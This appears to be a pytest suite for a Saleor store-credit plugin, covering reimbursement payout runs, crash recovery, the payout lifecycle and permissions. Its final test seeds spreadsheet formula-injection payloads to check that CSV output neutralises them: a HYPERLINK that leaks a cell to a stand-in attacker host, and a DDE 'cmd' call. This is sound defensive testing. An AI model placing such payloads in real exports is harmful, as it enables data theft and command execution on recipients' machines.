"""Reimbursement runs inside real Saleor (its customers, orders, Celery in eager mode)."""

import csv
import io
import time
from decimal import Decimal

import pytest

from ._saleor import SKIP_REASON

pytest.importorskip("saleor", reason=SKIP_REASON)

import graphene  # noqa: E402

from saleor.account.models import User  # noqa: E402

from saleor_store_credit.errors import StoreCreditError  # noqa: E402
from saleor_store_credit.ledger import Actor, ledger_verify, place_hold  # noqa: E402
from saleor_store_credit.models import (  # noqa: E402
    Account,
    Entry,
    Payout,
    ReimbursementRun,
)
from saleor_store_credit.reimbursement import (  # noqa: E402
    RunSpec,
    process_run,
    resolve_payout,
    start_run,
)

from saleor_store_credit.payouts import set_payout_details  # noqa: E402

from .test_checkout import fund, grant  # noqa: E402

START = """
mutation ($input: ReimbursementRunInput!, $key: String) {
  reimbursementRunStart(input: $input, idempotencyKey: $key) {
    run { id status progress { selected processed percent } payoutCount total { amount currency }
          payouts { id amount { amount } payeeEmail detailsMissing status } csv }
    errors { field code message }
  }
}
"""
PREVIEW = """
query ($input: ReimbursementRunInput!) { reimbursementRunPreview(input: $input) {
  count total { amount currency } skipped accounts { email amount { amount } detailsMissing } } }
"""
RESOLVE = """
mutation ($id: ID!, $note: String) { %s(id: $id, note: $note) {
  payout { status } errors { code message } } }
"""


RUN = """
query ($id: ID!) { reimbursementRun(id: $id) {
  id status progress { selected processed percent } payoutCount total { amount currency }
  payouts { id amount { amount } payeeEmail detailsMissing status } csv } }
"""

RUN_FULL_CSV = """
query ($id: ID!) { reimbursementRun(id: $id) { csv(fullPayoutAccounts: true) } }
"""


def start(client, input, key=None):
    """Start a run; Celery (eager in tests) processes it after the commit."""
    content = client.query(START, {"input": input, "key": key})
    payload = content["data"]["reimbursementRunStart"]
    if payload["errors"]:
        return payload
    run = client.query(RUN, {"id": payload["run"]["id"]})["data"]["reimbursementRun"]
    return {"run": run, "errors": []}


def customers(*amounts, currency="USD"):
    users = []
    for index, amount in enumerate(amounts):
        user = User.objects.create(email=f"c{index}-{time.time_ns()}@example.com",
                                   first_name=f"Cust{index}", is_active=True)
        if amount:
            fund(user, amount, currency)
        users.append(user)
    return users


@pytest.fixture
def finance(sc_client, staff_user, permission_manage_users, permission_manage_payments):
    grant(staff_user, permission_manage_users, permission_manage_payments)
    return sc_client(user=staff_user)


def balance(user, currency="USD"):
    return Account.objects.get(user=user, currency=currency).balance


def test_preview_selects_balances_at_or_above_the_minimum(finance):
    low, exact, high = customers("4.99", "5.00", "20.00")
    customers("50.00", currency="EUR")
    set_payout_details(user=high, account_number="NL91ABNA0417164300", actor=Actor.system())

    result = finance.query(PREVIEW, {"input": {"currency": "USD", "minimumAmount": "5"}})[
        "data"]["reimbursementRunPreview"]

    assert result["count"] == 2
    assert result["total"] == {"amount": 25, "currency": "USD"}
    emails = {a["email"]: a["detailsMissing"] for a in result["accounts"]}
    assert emails == {exact.email: True, high.email: False}
    assert not Payout.objects.exists()  # a preview changes nothing


def test_run_pays_out_selected_balances_and_skips_held_customers(finance, order):
    paid, on_hold, with_order, small = customers("30.00", "40.00", "25.00", "1.00")
    place_hold(account=Account.objects.get(user=on_hold), amount="1", actor=Actor.system())
    order.user = with_order
    order.status = "unconfirmed"
    order.save(update_fields=["user", "status"])

    run = start(finance, {"currency": "USD", "minimumAmount": "5.00"})

    assert run["errors"] == []
    view = run["run"]
    assert view["status"] == "COMPLETED"  # Celery runs eagerly in tests
    assert view["progress"] == {"selected": 1, "processed": 1, "percent": 100.0}
    assert [p["payeeEmail"] for p in view["payouts"]] == [paid.email]
    assert view["payouts"][0]["detailsMissing"] is True
    assert balance(paid) == 0
    assert balance(on_hold) == Decimal("40.00")
    assert balance(with_order) == Decimal("25.00")
    assert balance(small) == Decimal("1.00")
    rows = list(csv.DictReader(io.StringIO(view["csv"])))
    assert rows[0]["payee_email"] == paid.email and rows[0]["amount"] == "30.00"
    assert rows[0]["details_missing"] == "yes"
    assert ledger_verify().ok


def test_filters_by_customer_and_email(finance):
    first, second, third = customers("10", "10", "10")
    ids = [graphene.Node.to_global_id("User", first.pk), graphene.Node.to_global_id("User", second.pk)]

    run = start(finance, {
        "currency": "USD", "minimumAmount": "1", "customerIds": ids, "email": second.email[:6],
    })["run"]

    assert [p["payeeEmail"] for p in run["payouts"]] == [second.email]
    assert balance(first) == balance(third) == Decimal("10.00")


def test_minimum_defaults_to_the_plugin_configuration(finance):
    customers("3.00")
    content = finance.query(START, {"input": {"currency": "USD"}})
    errors = content["data"]["reimbursementRunStart"]["errors"]
    assert errors[0]["field"] == "minimumAmount"


@pytest.mark.parametrize("store_credit_config", [{"minimum_reimbursement_amount": "2.50"}])
def test_configured_minimum_is_used(finance, store_credit_config):
    customers("2.49", "2.50")
    run = start(finance, {"currency": "USD"})["run"]
    assert run["payoutCount"] == 1


def test_crash_in_the_middle_then_resume_pays_nobody_twice(store_credit_plugin):
    users = customers(*["7.00"] * 25)
    run = ReimbursementRun.objects.create(
        currency="USD", minimum_amount=Decimal("1"), selected_count=25,
        **Actor.system().entry_fields(),
    )

    # the worker dies in the middle of the second batch: that batch rolls back whole
    with pytest.raises(RuntimeError):
        process_run(run.pk, batch_size=10, crash_after=13)
    assert Payout.objects.count() == 10
    run.refresh_from_db()
    assert run.cursor_account_id > 0 and run.status == "running"

    assert process_run(run.pk, batch_size=10) == "completed"
    assert process_run(run.pk, batch_size=10) == "completed"  # a second resume: no-op

    assert Payout.objects.count() == 25
    assert Payout.objects.values("account").distinct().count() == 25
    assert Entry.objects.filter(kind="payout").count() == 25
    assert all(balance(user) == 0 for user in users)
    run.refresh_from_db()
    assert (run.status, run.payout_count, run.total_amount) == ("completed", 25, Decimal("175.00"))
    assert ledger_verify().ok


@pytest.mark.parametrize(("mutation", "status", "recredit"), [
    ("payoutMarkPaid", "PAID", False), ("payoutMarkFailed", "FAILED", True),
    ("payoutVoid", "VOIDED", True),
])
def test_payout_lifecycle_recredits_failed_and_voided_exactly_once(
    finance, mutation, status, recredit
):
    (user,) = customers("12.00")
    run = start(finance, {"currency": "USD", "minimumAmount": "1"})["run"]
    payout_id = run["payouts"][0]["id"]

    first = finance.query(RESOLVE % mutation, {"id": payout_id, "note": "bank said no"})
    second = finance.query(RESOLVE % mutation, {"id": payout_id, "note": "again"})

    assert first["data"][mutation]["payout"]["status"] == status
    assert second["data"][mutation]["errors"][0]["code"] == "PAYOUT_NOT_PENDING"
    assert balance(user) == (Decimal("12.00") if recredit else Decimal("0"))
    assert Entry.objects.filter(kind="payout_reversal").count() == (1 if recredit else 0)
    assert ledger_verify().ok


def test_a_paid_payout_cannot_be_voided(store_credit_plugin):
    (user,) = customers("5.00")
    run = start_run(spec=RunSpec("USD", Decimal("1")), actor=Actor.system())
    process_run(run.pk)
    payout = Payout.objects.get(run=run)
    resolve_payout(payout_id=payout.pk, status="paid", actor=Actor.system())
    with pytest.raises(StoreCreditError):
        resolve_payout(payout_id=payout.pk, status="voided", actor=Actor.system())
    assert balance(user) == 0


def test_runs_need_manage_users_and_handle_payments(sc_client, staff_user, permission_manage_users):
    grant(staff_user, permission_manage_users)
    content = sc_client(user=staff_user).query(
        START, {"input": {"currency": "USD", "minimumAmount": "1"}}
    )
    assert content["errors"][0]["extensions"]["exception"]["code"] == "PermissionDenied"
    assert not ReimbursementRun.objects.exists()


def test_ten_thousand_accounts_in_one_run(store_credit_plugin, caplog):
    # given 10 000 customers with 3.00 each (bulk-loaded; the ledger stays consistent)
    count = 10_000
    stamp = time.time_ns()
    users = User.objects.bulk_create(
        [User(email=f"bulk{i}-{stamp}@example.com", is_active=True) for i in range(count)]
    )
    accounts = Account.objects.bulk_create(
        [Account(user=u, email=u.email, currency="USD", balance=Decimal("3.00"), entry_count=1)
         for u in users]
    )
    Entry.objects.bulk_create(
        [Entry(account=a, direction="credit", amount=Decimal("3.00"),
               balance_after=Decimal("3.00"), kind="adjustment", actor_type="system")
         for a in accounts]
    )
    run = ReimbursementRun.objects.create(
        currency="USD", minimum_amount=Decimal("1"), selected_count=count,
        **Actor.system().entry_fields(),
    )

    # when
    caplog.set_level("INFO", logger="saleor_store_credit.reimbursement")
    assert process_run(run.pk, batch_size=1000) == "completed"

    # then
    run.refresh_from_db()
    assert run.payout_count == count
    assert run.total_amount == Decimal("30000.00")
    assert run.processed_count == count
    assert not Account.objects.filter(currency="USD", balance__gt=0).exists()
    progress = [r.getMessage() for r in caplog.records if "accounts processed" in r.getMessage()]
    assert len(progress) == 10  # one line per batch of 1 000
    assert progress[-1].endswith("10000/10000 accounts processed, 10000 payouts")
    assert ledger_verify().ok


def test_channel_filter_selects_customers_with_orders_in_that_channel(finance, order):
    buyer, other = customers("10.00", "10.00")
    order.user = buyer
    order.save(update_fields=["user"])  # the fixture order is FULFILLED-like, not held

    run = start(finance, {"currency": "USD", "minimumAmount": "1",
                          "channel": order.channel.slug})["run"]

    assert [p["payeeEmail"] for p in run["payouts"]] == [buyer.email]
    assert balance(other) == Decimal("10.00")


def test_payout_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(finance):
    # given a customer whose name, payout account and payout reference are formulas
    (user,) = customers("12.00")
    user.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    user.last_name = ""
    user.save(update_fields=["first_name", "last_name"])
    set_payout_details(user=user, account_number="+31-2+3", actor=Actor.system())
    run = start(finance, {"currency": "USD", "minimumAmount": "1"})["run"]
    payout = Payout.objects.get(run_id=graphene.Node.from_global_id(run["id"])[1])
    resolve_payout(payout_id=payout.pk, status="paid", actor=Actor.system(),
                   reference="@SUM(1+1)*cmd|' /C calc'!A0")
    Payout.objects.filter(pk=payout.pk).update(payee_address="-1+2\n\tTab\n\rCR")

    # when (bank accounts in full: masked ones start with "****")
    view = finance.query(RUN_FULL_CSV, {"id": run["id"]})["data"]["reimbursementRun"]

    # then every cell starting with = + - @ tab or CR is prefixed with a single quote
    (row,) = list(csv.DictReader(io.StringIO(view["csv"])))
    assert row["payee_name"] == "'" + user.first_name
    assert row["payout_account"] == "'+31-2+3"
    assert row["reference"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["payee_address"] == "'-1+2\n\tTab\n\rCR"
    # plain numbers stay numbers
    assert row["amount"] == "12.00"
    assert row["payout_id"] == str(payout.pk)
